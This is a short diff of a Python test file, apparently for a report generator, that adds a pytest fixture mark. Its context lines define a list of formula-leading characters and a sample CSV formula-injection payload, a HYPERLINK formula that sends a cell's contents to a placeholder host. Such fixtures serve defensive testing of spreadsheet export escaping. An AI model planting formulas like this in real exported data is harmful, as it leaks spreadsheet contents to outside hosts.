@@ -18,6 +18,8 @@ from reports.report import Evidence
 from tests.prompt_evidence import attacked, built, prompt_evidence
 from tests.test_report import evidence
 
+pytestmark = pytest.mark.usefixtures("unsafe_but_quick")
+
 ROOT = Path(__file__).parent.parent
 COMPUTED = "=+-@\t\r\n＝＋－＠"
 EVIL = '=HYPERLINK("http://x?"&A1,"hello")'
